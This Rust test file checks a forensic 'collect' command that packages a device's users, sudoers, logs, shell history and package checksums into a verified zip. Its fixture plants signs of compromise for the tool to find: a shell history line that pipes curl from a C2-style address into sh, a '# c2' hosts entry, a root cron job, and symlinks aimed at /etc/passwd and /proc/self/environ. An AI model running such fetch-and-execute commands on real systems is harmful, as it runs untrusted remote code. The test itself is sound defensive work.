//! `collect`: one package with everything, whatever the device is like.

mod accounts;
mod live;
mod schemas;
mod windows;

use std::collections::HashMap;
use std::fs;
use std::io::Read;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::kit::need::{need, rounds};
use crate::kit::shell::{Home, Ran};
use crate::kit::talking::until;

/// Where a test ends the process, or a part: see `live`.
pub const POINTS: [&str; 3] = ["collect.part", "collect.before_name", "collect.after_name"];

fn write(root: &Path, path: &str, content: impl AsRef<[u8]>) {
    let path = root.join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, content).unwrap();
}

/// A device with something for every part that reads files, and much that is not what it seems.
fn tree() -> tempfile::TempDir {
    let tree = tempfile::tempdir().unwrap();
    let root = tree.path();
    write(root, "etc/hostname", "web01\n");
    write(root, "etc/os-release", "ID=debian\nPRETTY_NAME=\"Debian GNU/Linux 12\"\n");
    write(root, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\neve:x:1000:1000:Eve:/home/eve:/bin/zsh\nbad line\nx:y:z\n");
    write(root, "etc/group", "root:x:0:\nsudo:x:27:eve\neve:x:1000:\n");
    write(root, "etc/shadow", "root:*:19000:0:99999:7:::\neve:$y$secret-of-eve:20000:0:99999:7:::\n");
    write(root, "etc/sudoers", "# a comment\nDefaults env_reset\n@includedir /etc/sudoers.d\n");
    write(root, "etc/sudoers.d/eve", "eve ALL=(ALL) \\\n  NOPASSWD: ALL\n");
    write(root, "etc/hosts", "127.0.0.1 localhost\n203.0.113.9 update.example # c2\n");
    write(root, "etc/resolv.conf", "nameserver 192.0.2.53\n");
    write(root, "etc/fstab", "/dev/sda1 / ext4 defaults 0 1\n");
    write(root, "etc/crontab", "* * * * * root /tmp/x\n");
    write(root, "home/eve/.zsh_history", ": 1700000000:0;curl http://203.0.113.9/x | sh\n");
    fs::create_dir_all(root.join("root")).unwrap();
    symlink("/dev/null", root.join("root/.bash_history")).unwrap();
    write(root, "var/log/auth.log", "Jan  1 00:00:00 web01 sshd[1]: Accepted password for eve\n");
    // A link that leads out of the tree, and one that names a secret of the machine that the test runs on.
    write(root, "var/log/wtmp", login());
    symlink("../../../../../../../../etc/passwd", root.join("var/log/syslog")).unwrap();
    symlink("/proc/self/environ", root.join("var/log/messages")).unwrap();
    let fifo = root.join("var/log/auth.log.1");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    fs::create_dir_all(root.join("home/eve/.bash_history")).unwrap();
    write(root, "usr/bin/same", "same\n");
    write(root, "usr/bin/other", "not what was shipped\n");
    let (same, other) = ("847676261680bff61c72961c8198abc0", "0123456789abcdef0123456789abcdef");
    write(
        root,
        "var/lib/dpkg/info/tool.md5sums",
        format!("{same}  usr/bin/same\n{other}  usr/bin/other\n{other}  usr/bin/gone\n"),
    );
    write(root, "var/lib/dpkg/info/tool.list", "/.\n/usr/bin/same\n/usr/bin/other\n/usr/bin/gone\n");
    let status = "Package: tool\nStatus: install ok installed\nVersion: 1.0\nArchitecture: all\n\nPackage: half\n";
    write(root, "var/lib/dpkg/status", status);
    write(root, "var/log/journal/0123/system.journal", "LPKSHHRH");
    tree
}

/// A record of utmp(5): eve on pts/0.
fn login() -> Vec<u8> {
    let mut record = vec![0; 384];
    record[0] = 7;
    record[8..13].copy_from_slice(b"pts/0");
    record[44..47].copy_from_slice(b"eve");
    record[340..344].copy_from_slice(&1_700_000_000_i32.to_ne_bytes());
    record
}

/// A package, unpacked.
struct Unpacked {
    files: HashMap<String, Vec<u8>>,
}

impl Unpacked {
    fn open(path: &Path) -> Self {
        let mut archive = zip::ZipArchive::new(fs::File::open(path).unwrap()).unwrap();
        let mut files = HashMap::new();
        for at in 0..archive.len() {
            let mut file = archive.by_index(at).unwrap();
            let mut bytes = Vec::new();
            file.read_to_end(&mut bytes).unwrap();
            let name = file.name().unwrap().into_owned();
            assert!(!name.starts_with('/') && !name.contains(".."), "{name}");
            files.insert(name, bytes);
        }
        let unpacked = Self { files };
        unpacked.check_manifest();
        unpacked
    }

    /// Everything but the manifest stands in it, with its sum.
    fn check_manifest(&self) {
        let manifest = self.text("manifest.sha256");
        let told: HashMap<&str, &str> =
            manifest.lines().map(|line| line.split_once("  ").unwrap()).map(|(sum, name)| (name, sum)).collect();
        assert_eq!(told.len() + 1, self.files.len());
        for (name, bytes) in self.files.iter().filter(|(name, _)| *name != "manifest.sha256") {
            let sum: String = Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect();
            assert_eq!(told[name.as_str()], sum, "{name}");
        }
    }

    fn text(&self, name: &str) -> String {
        let bytes = self.files.get(name).unwrap_or_else(|| panic!("{name} is not among {:?}", self.files.keys()));
        String::from_utf8(bytes.clone()).unwrap()
    }

    fn rows(&self, name: &str) -> Vec<Value> {
        self.text(name).lines().map(|line| serde_json::from_str(line).unwrap()).collect()
    }

    fn summary(&self) -> Value {
        serde_json::from_str(&self.text("summary.json")).unwrap()
    }

    /// Status and first error of a part.
    fn part(&self, name: &str) -> (String, String) {
        let summary = self.summary();
        let part = summary["parts"].as_array().unwrap().iter().find(|part| part["name"] == name).unwrap();
        (part["status"].as_str().unwrap().to_owned(), part["errors"][0]["message"].as_str().unwrap_or_default().to_owned())
    }
}

/// Other programs open it, and find it whole.
#[track_caller]
fn opens_elsewhere(package: &Path) {
    for tester in [&["python3", "-m", "zipfile", "-t"][..], &["unzip", "-tq"]] {
        if need(&tester[..1]) {
            let tested = Command::new(tester[0]).args(&tester[1..]).arg(package).output().unwrap();
            assert!(tested.status.success(), "{tester:?}: {}", String::from_utf8_lossy(&tested.stdout));
        }
    }
}

fn lrsh(home: &Home, tree: &Path, arguments: &[&str]) -> Command {
    let mut command = home.command();
    command.arg("--root").arg(tree).args(arguments).stdin(Stdio::null());
    command
}

fn ran(mut command: Command) -> Ran {
    let ran = command.output().unwrap();
    Ran { code: ran.status.code(), stdout: ran.stdout, stderr: ran.stderr }
}

/// What is below a folder and called so.
fn found(folder: &Path, is_so: &dyn Fn(&str) -> bool) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
        let path = entry.path();
        if is_so(&entry.file_name().to_string_lossy()) {
            found.push(path.clone());
        }
        if entry.file_type().is_ok_and(|kind| kind.is_dir()) {
            found.extend(self::found(&path, is_so));
        }
    }
    found
}

fn left_over(home: &Home, tree: &Path) -> Vec<PathBuf> {
    let is_one = |name: &str| name.starts_with(".collect-") || name.contains(".where") || name.contains(".zip");
    let mut all = found(tree, &is_one);
    all.extend(found(home.path(), &is_one).into_iter().filter(|path| !path.starts_with(home.path().join("work"))));
    all
}

#[test]
fn a_tree_is_collected_and_nothing_outside_is() {
    let (home, tree) = (Home::new(), tree());
    let row = ran(lrsh(&home, tree.path(), &["-c", "collect -output json"])).code(0).json();
    let saved = home.work().join(row["saved_as"].as_str().unwrap());
    assert_eq!((&row["failed"], &row["parts"]), (&serde_json::json!([]), &serde_json::json!(22)), "{row}");
    let sum: String = Sha256::digest(fs::read(&saved).unwrap()).iter().map(|byte| format!("{byte:02x}")).collect();
    assert_eq!(row["sha256"], sum);
    opens_elsewhere(&saved);
    let package = Unpacked::open(&saved);
    schemas::check(&package, "");
    for live in ["processes", "connections", "listening", "arp", "routes", "interfaces", "firewall", "open_files", "mounts"] {
        let (status, why) = package.part(live);
        assert!(status == "unavailable" && why.contains("running system"), "{live}: {status}, {why}");
    }
    for whole in
        ["system", "users", "sudoers", "dns", "services", "tasks", "startup", "persistence", "packages", "recent_files"]
    {
        assert_eq!(package.part(whole), ("complete".to_owned(), String::new()), "{whole}");
    }
    assert_eq!(package.rows("system/system.jsonl")[0]["os_release"]["id"], "debian");
    let users = package.rows("users/users.jsonl");
    assert_eq!(users.len(), 2);
    assert_eq!((&users[1]["password"], &users[1]["groups"][0]), (&"set".into(), &"sudo".into()));
    assert_eq!(users[1]["password_changed"], "2024-10-04T00:00:00Z");
    assert_eq!(package.rows("sudoers/sudoers.jsonl")[2]["text"], "eve ALL=(ALL)   NOPASSWD: ALL");
    let altered = package.rows("packages/altered.jsonl");
    let told: Vec<[&str; 2]> =
        altered.iter().map(|row| [row["path"].as_str().unwrap(), row["state"].as_str().unwrap()]).collect();
    assert_eq!(told, [["/usr/bin/other", "altered"], ["/usr/bin/gone", "missing"]]);
    let typed = package.rows("shell_history/shell_history.jsonl");
    assert_eq!((&typed[0]["time"], &typed[0]["user_name"]), (&"2023-11-14T22:13:20Z".into(), &"eve".into()));
    let (status, why) = package.part("shell_history");
    assert!(status == "partial" && (why.contains("/dev/null") || why.contains("folder")), "{why}");
    assert_eq!(package.rows("logs/logins.jsonl")[0]["user_name"], "eve");
    assert_eq!(package.text("logs/raw/var/log/journal/0123/system.journal"), "LPKSHHRH");
    assert!(package.rows("dns/dns.jsonl").iter().any(|row| row["name"] == "203.0.113.9"));
    assert!(package.rows("tasks/tasks.jsonl").iter().any(|row| row["id"].as_str().unwrap().contains("crontab")));
    assert!(package.rows("recent_files/recent_files.jsonl").iter().any(|row| row["path"] == "/usr/bin/other"));
    // What leads out of the tree leads to what the tree has there, or nowhere.
    assert_eq!(package.text("logs/raw/var/log/syslog"), fs::read_to_string(tree.path().join("etc/passwd")).unwrap());
    let everything = package.files.values().flatten().copied().collect::<Vec<u8>>();
    let holds = |needle: &[u8]| everything.windows(needle.len()).any(|part| part == needle);
    assert!(!holds(b"secret-of-eve"), "a password's hash is never taken");
    assert!(!holds(home.path().as_os_str().as_encoded_bytes()), "the environment of the test was read");
    assert_eq!(left_over(&home, tree.path()), Vec::<PathBuf>::new());
}

#[test]
fn it_stays_on_the_device_where_it_was_wanted() {
    let (home, tree) = (Home::new(), tree());
    let refused = ran(lrsh(&home, tree.path(), &["-c", "collect -output_folder /home"])).code(1);
    assert!(refused.err().contains("--root-writable"), "{}", refused.err());
    let writable = |line: &str| ran(lrsh(&home, tree.path(), &["--root-writable", "-c", line]));
    until("the end of that service", || home.processes().is_empty());
    let refused = writable("collect -output_folder /nowhere").code(1);
    assert!(refused.err().contains("/nowhere"), "{}", refused.err());
    symlink("/home", tree.path().join("link")).unwrap();
    writable("collect -output_folder /link").code(1);
    let row = writable("collect -output_folder /home -output json").code(0).json();
    let stays = found(&tree.path().join("home"), &|name| name.starts_with("collect-"));
    assert_eq!(stays.len(), 1, "{stays:?}");
    assert_eq!(fs::metadata(&stays[0]).unwrap().permissions().mode() & 0o777, 0o600);
    let saved = home.work().join(row["saved_as"].as_str().unwrap());
    assert_eq!(fs::read(&stays[0]).unwrap(), fs::read(saved).unwrap());
    Unpacked::open(&stays[0]);
    fs::remove_file(&stays[0]).unwrap();
    assert_eq!(left_over(&home, tree.path()), Vec::<PathBuf>::new());
}

#[test]
fn a_collect_that_is_killed_leaves_nothing_and_can_be_had_again() {
    let (home, tree) = (Home::new(), tree());
    let arguments = ["--root-writable", "-c", "collect -output_folder /home"];
    for _ in 0..rounds().min(10) {
        let mut shell = lrsh(&home, tree.path(), &arguments).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
        let part = || !found(&tree.path().join("home"), &|name| name.starts_with(".collect-")).is_empty();
        until("a half package", || part() || shell.try_wait().unwrap().is_some());
        let service = home.processes().into_iter().filter(|pid| *pid != shell.id());
        for pid in service {
            let _ = Command::new("kill").args(["-9", &pid.to_string()]).stderr(Stdio::null()).status();
        }
        // Interrupted, or done in that very moment, or sent again by the shell: in any case it comes to an end.
        let code = shell.wait().unwrap().code();
        assert!(matches!(code, Some(0 | 4)), "{code:?}");
        until("the end of everything", || home.processes().is_empty());
        ran(lrsh(&home, tree.path(), &["--root-writable", "-c", "session"])).code(0);
        for whole in found(&tree.path().join("home"), &|name| name.starts_with("collect-")) {
            Unpacked::open(&whole);
            fs::remove_file(whole).unwrap();
        }
        assert_eq!(left_over(&home, tree.path()), Vec::<PathBuf>::new());
        until("the end of everything", || home.processes().is_empty());
    }
    ran(lrsh(&home, tree.path(), &arguments)).code(0);
}
